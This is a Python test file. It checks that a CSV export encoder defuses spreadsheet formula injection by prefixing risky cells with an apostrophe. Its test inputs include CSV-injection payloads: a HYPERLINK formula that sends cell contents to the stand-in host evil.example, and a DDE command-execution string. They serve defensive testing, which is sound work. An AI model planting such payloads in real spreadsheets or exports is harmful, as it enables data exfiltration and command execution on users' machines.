"""CSV exports are opened in spreadsheets: a text cell a spreadsheet would run as a formula
(OWASP "CSV injection": a first character of =, +, -, @, tab or carriage return) is written
with a leading apostrophe, so it shows as the text it is. Numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from services.export.domain.formats import encoder

COLUMNS = ("event.actor", "event.target", "count")


def written(record: dict[str, object]) -> list[str]:
    csv_encoder = encoder("csv", COLUMNS)
    text = (csv_encoder.header() + csv_encoder.encode(record)).decode("utf-8")
    _, row = list(csv.reader(io.StringIO(text)))
    return row


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(formula: str) -> None:
    row = written({"event": {"actor": formula, "target": "action/1"}, "count": 1})

    assert row == ["'" + formula, "action/1", "1"]


def test_ordinary_text_and_negative_numbers_are_written_as_they_are() -> None:
    row = written({"event": {"actor": "olga", "target": "a-b=c"}, "count": -5})

    assert row == ["olga", "a-b=c", "-5"]
